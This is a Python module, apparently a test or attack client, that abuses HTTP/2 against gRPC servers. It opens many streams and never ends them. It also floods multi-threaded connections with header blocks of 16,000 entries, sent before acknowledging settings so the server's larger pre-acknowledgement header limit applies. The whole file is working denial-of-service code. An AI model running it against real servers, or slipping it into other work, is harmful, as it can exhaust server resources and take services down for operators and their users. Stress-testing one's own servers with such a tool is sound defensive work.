"""A client that abuses HTTP/2: requests that are begun and never ended, and endless headers."""

from __future__ import annotations

import socket
import ssl
import struct
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS, _HEADERS = 4, 1
_END_STREAM, _END_HEADERS = 0x1, 0x4
_ACCEPT_ENCODING = b"\x90"


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def _literal(name: str, value: str) -> bytes:
    """A header that is in no HPACK table."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def _headers(address: str, path: str) -> bytes:
    """The headers of a gRPC call."""
    return b"".join(
        _literal(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", address),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        )
    )


def half_open_streams(address: str, path: str, count: int) -> int:
    """Begin `count` calls on one connection and end none; return how many could be sent.

    The connection stays open until the server has closed it, or a second has passed.
    """
    host, _, port = address.rpartition(":")
    headers = _headers(address, path)
    sent = 0
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        with suppress(OSError):
            for number in range(count):
                connection.sendall(_frame(_HEADERS, _END_HEADERS, 2 * number + 1, headers))
                sent += 1
            connection.settimeout(1)
            while connection.recv(1 << 16):
                pass
    return sent


def unacknowledged_lists(
    address: str, path: str, connections: int, seconds: float, tls: ssl.SSLContext | None = None
) -> int:
    """Begin calls with 16,000 headers each on connections that acknowledge no settings.

    A header of HTTP/2's static table takes one byte. gRPC limits a list of headers to 16 KiB once
    the client has acknowledged the settings, and to 16 MiB before. Returns how many were sent.
    """
    headers = _headers(address, path)
    until = time.monotonic() + seconds

    def send(_: int) -> int:
        sent = 0
        with suppress(OSError), _connected(address, tls) as connection:
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
            while time.monotonic() < until:
                block = headers + _ACCEPT_ENCODING * 16_000
                connection.sendall(
                    _frame(_HEADERS, _END_HEADERS | _END_STREAM, 2 * sent + 1, block)
                )
                sent += 1
        return sent

    with ThreadPoolExecutor(connections) as senders:
        return sum(senders.map(send, range(connections)))


def _connected(address: str, tls: ssl.SSLContext | None) -> socket.socket:
    """A connection, with TLS if a context is given."""
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=5)
    return connection if tls is None else tls.wrap_socket(connection, server_hostname=host)
